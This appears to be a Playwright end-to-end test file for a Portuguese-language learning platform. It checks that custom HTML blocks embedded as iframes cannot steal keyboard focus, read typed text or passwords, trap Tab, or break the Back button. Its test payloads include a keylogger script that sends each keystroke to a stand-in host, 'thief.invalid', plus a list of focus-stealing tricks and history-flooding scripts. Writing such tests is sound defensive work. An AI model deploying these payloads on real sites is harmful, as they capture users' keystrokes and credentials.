import type { Locator } from '@playwright/test'
import { putBlocks } from '#tests/e2e/support/blocks.ts'
import { expect, type Page, test } from '#tests/e2e/support/fixtures.ts'
import { enter, people, signInOverApi } from '#tests/e2e/support/sign-in.ts'
import { drawer, saveSeo, status } from '#tests/e2e/support/studio.ts'

// An owner's HTML that wants to read what people type (decision 0139). A frame can focus itself without a press, in every engine.

/** How long the thief has on each page; `THIEF_SECONDS=60` makes ten minutes of it. */
const SECONDS = Number(process.env['THIEF_SECONDS'] ?? 3)
const SOUGHT = 'Senha do cofre: 4821'

/** Every way to the focus that was found, as often as it can. What is typed is told to the web, as a picture's address. */
const THIEF = `<p style="height: 300px">Agenda</p><form id="f"><input id="i" value="x"><input id="r" required></form><label id="l" for="i">a</label>
<div id="e" contenteditable>a</div><div id="p" popover><input autofocus></div><dialog id="d"><input autofocus></dialog>
<button id="c" commandfor="d" command="show-modal"></button><svg id="g" tabindex="0"></svg><script>
  addEventListener('keydown', ({ key }) => { new Image().src = 'https://thief.invalid/?key=' + encodeURIComponent(key) }, true)
  const ways = [
    () => Reflect.apply(top.focus, window, []), () => window.focus(), () => i.focus(), () => i.select(), () => l.click(), () => g.focus(),
    () => r.reportValidity(), () => f.reportValidity(), () => { location.hash = '#i' }, () => getSelection().collapse(e, 0),
    () => { d.close(); d.show() }, () => { d.close(); d.showModal() }, () => c.click(), () => { p.hidePopover(); p.showPopover() },
  ]
  const [i, l, e, p, d, c, g, f, r] = ['i', 'l', 'e', 'p', 'd', 'c', 'g', 'f', 'r'].map((id) => document.getElementById(id))
  const all = () => { for (const way of ways) try { way() } catch {} }
  START
</script>`

const THIEVES = {
  // At once, and all the time.
  eager: THIEF.replace('START', 'setInterval(all, 5)'),
  // Only when it is not drawn any more: somebody types.
  patient: THIEF.replace(
    'START',
    'let drawn = performance.now(); const tick = () => { drawn = performance.now(); requestAnimationFrame(tick) }; tick(); setInterval(() => { if (performance.now() - drawn > 200) all() }, 5)',
  ),
  // Now and then: it hopes that nobody counts.
  rare: THIEF.replace('START', 'setInterval(all, 700)'),
}
const PLACES = [
  { page: 'lesson', course_id: 1, module_id: 1, lesson_id: 1 },
  { page: 'community', community_id: 1 },
  { page: 'profile' },
  { page: 'search' },
]

/** What reached the thief. */
async function listen(page: Page): Promise<string[]> {
  const keys: string[] = []
  await page.context().route('https://thief.invalid/**', (route) => {
    keys.push(new URL(route.request().url()).searchParams.get('key') ?? '')
    return route.fulfill({ status: 204 })
  })
  return keys
}

const thief = (page: Page) => page.locator('iframe[title="Agenda"]').first()

/** Brings the thief in sight, then types key by key as long as it has. */
async function typeBeside(page: Page, field: Locator, keys: string[]): Promise<void> {
  await seek(page)
  const until = Date.now() + SECONDS * 1000
  do {
    await field.click()
    await field.press('ControlOrMeta+a')
    await page.keyboard.type(SOUGHT, { delay: 40 })
    expect(keys.join('')).toBe('')
    await expect(field).toHaveValue(SOUGHT)
    await field.blur()
    await page.waitForTimeout(300) // the thief is shown again
  } while (Date.now() < until)
}

/** Wherever it is on the page; it may have been stopped by then. */
async function seek(page: Page): Promise<void> {
  // Over the page, not over the drawer.
  await page.mouse.move(200, 300)
  // A page that is opened again begins where it was left: the block may be above.
  let turns = 0
  await expect(async () => {
    await page.mouse.wheel(0, turns++ % 20 < 10 ? 400 : -400)
    await expect(
      thief(page)
        .or(page.getByText(/^Este bloco foi parado/))
        .first(),
    ).toBeAttached({ timeout: 500 })
  }).toPass()
}

for (const [kind, customHtml] of Object.entries(THIEVES)) {
  test(`one visit beside a block that takes the focus: ${kind}`, async ({ page, server, expectedErrors }) => {
    expectedErrors.push(/./) // Chromium reports what it refuses
    test.setTimeout(90_000 + SECONDS * 12_000)
    const keys = await listen(page)
    await putBlocks(
      server.url,
      PLACES.map((place) => ({ ...place, customHtml })),
    )
    await enter(page, people.student)
    const box = (name: string | RegExp) => page.getByRole('main').getByRole('textbox', { name }).first()
    const fields = [
      ['/curso/1/a/1', box('Escreva sua dúvida')],
      ['/comunidade/1/1', box('Título da postagem')],
      ['/dashboard/profile', box('Nome')],
      ['/search?search=luz', page.getByRole('searchbox').first()],
    ] as const
    for (const [path, field] of fields) {
      await test.step(`no key of a field reaches it: ${path} (SAF-06)`, async () => {
        await page.goto(path)
        await typeBeside(page, field, keys)
      })
    }
  })
}

test('a password over the homepage, the drawer and the editor beside a block that takes the focus', async ({
  page,
  server,
  context,
  expectedErrors,
}) => {
  expectedErrors.push(/./)
  test.setTimeout(90_000 + SECONDS * 10_000)
  const keys = await listen(page)
  await putBlocks(server.url, [
    { page: 'homepage', customHtml: THIEVES.patient },
    { page: 'homepage', customHtml: '<p>Aviso</p>' },
  ])
  await signInOverApi(page, people.admin)

  await test.step('no key of the drawer reaches it (SAF-06)', async () => {
    await page.goto('/homepage?edit=seo')
    await typeBeside(page, drawer(page).getByLabel('Descrição'), keys)
  })

  await test.step('while a password is asked for, no block is in the page (SAF-06)', async () => {
    await page.goto('/homepage?edit=seo')
    await seek(page)
    await expect(page.locator('iframe[title="Agenda"]')).not.toHaveCount(0)
    await context.clearCookies()
    await page.getByRole('button', { name: 'Voltar', exact: true }).click()
    await saveSeo(page, { name: 'Outro nome' })
    await expect(status(page)).toHaveAccessibleName(/entre novamente/)
    await drawer(page)
      .getByRole('button', { name: /Entre novamente|Entrar/ })
      .first()
      .click()
    const password = page.getByRole('dialog', { name: /Entre novamente/ }).getByLabel('Senha', { exact: true })
    await expect(password).toBeFocused()
    await expect(page.locator('iframe[title="Agenda"]')).toHaveCount(0)
    await page.keyboard.type(people.admin.password, { delay: 100 })
    await expect(password).toHaveValue(people.admin.password)
    expect(keys.join('')).toBe('')
    await page.keyboard.press('Enter')
    await expect(page.getByRole('dialog', { name: /Entre novamente/ })).toBeHidden()
  })
})

const FORM = `<form><input aria-label="Um"><input aria-label="Dois"></form><p id="said"></p><script>
  const [one, two] = document.querySelectorAll('input')
  document.addEventListener('keydown', (event) => { if (event.key === 'Tab') event.preventDefault() }, true)
  two.addEventListener('blur', () => setTimeout(() => one.focus(), 10))
  one.addEventListener('input', () => { document.getElementById('said').textContent = 'Lido: ' + one.value })
</script>`
/** Entries of the tab's history: places of its own document, opened anew so that nothing of ours listens, and other documents. */
const MOVES = {
  places: `<p>Agenda</p><script>setTimeout(() => { for (let at = 0; at < 30; at++) location.hash = 'a' + at }, 500)</script>`,
  anew: `<script>setTimeout(() => {
    document.open(); document.write('<p>Agenda</p>'); document.close()
    let at = 0
    setInterval(() => { location.hash = 'a' + at++ }, 50)
  }, 500)</script>`,
  documents: `<p>Agenda</p><script>setTimeout(() => { location.href = '/frames/' }, 500)</script>`,
}

test('one visit of blocks that are used, and of blocks that move', async ({ page, server, expectedErrors }) => {
  expectedErrors.push(/./)
  await putBlocks(server.url, [{ page: 'profile', customHtml: FORM }])
  await enter(page, people.student, '/dashboard/profile')
  const block = page.frameLocator('iframe[title="Agenda"]')
  const name = page.getByRole('main').getByRole('textbox', { name: 'Nome' }).first()
  await seek(page)

  await test.step('a press gives a block the keyboard, right after a field of the page had it (SAF-06)', async () => {
    await name.click()
    await page.getByRole('heading', { level: 1 }).click()
    await block.getByLabel('Um').click()
    await page.keyboard.type('Olá', { delay: 150 })
    await expect(block.getByText('Lido: Olá')).toBeVisible()
    // It stays there for as long as the person writes.
    await page.waitForTimeout(1500)
    await page.keyboard.type(' mundo')
    await expect(block.getByText('Lido: Olá mundo')).toBeVisible()
  })

  await test.step('Tab goes into a block, through it and out of it, whatever its scripts want (SAF-06, A11-01)', async () => {
    await page.keyboard.press('Tab')
    await expect(block.getByLabel('Dois')).toBeFocused()
    await page.keyboard.press('Tab')
    await expect(page.locator('iframe[title="Agenda"]')).not.toBeFocused()
    await page.waitForTimeout(400)
    await expect(page.locator('iframe[title="Agenda"]')).not.toBeFocused()
    await page.keyboard.press('Shift+Tab')
    await expect(page.locator('iframe[title="Agenda"]')).toBeFocused()
    await page.waitForTimeout(600)
    await expect(block.getByLabel('Dois')).toBeFocused()
  })

  await test.step('while a field of the page is written in, its place says so and keeps its height (SAF-06)', async () => {
    const before = await page.locator('.blk__block').boundingBox()
    await name.click()
    await expect(page.getByText('Este bloco volta quando você terminar de escrever.')).toBeVisible()
    expect((await page.locator('.blk__block').boundingBox())?.height).toBe(before?.height)
    await name.blur()
    await expect(block.getByLabel('Um')).toHaveValue('Olá mundo')
    await expect(block.getByLabel('Um')).toBeVisible()
  })

  const told = (how: string) => (how === 'documents' ? 'foi embora para outra página' : 'trocava de página sem parar')
  for (const [how, customHtml] of Object.entries(MOVES))
    await test.step(`Back leads to the page before, however often a block moves: ${how} (SAF-06)`, async () => {
      await putBlocks(server.url, [{ page: 'favorite', customHtml }])
      await page.goto('/dashboard/profile')
      await expect(name).toBeVisible()
      await page.getByRole('link', { name: 'Favoritos' }).first().click()
      await seek(page)
      await expect(page.getByText(`Este bloco foi parado: ele ${told(how)}.`)).toBeVisible()
      await page.waitForTimeout(1000)
      await page.goBack()
      await expect(page).toHaveURL(/\/dashboard\/profile$/)
    })
})
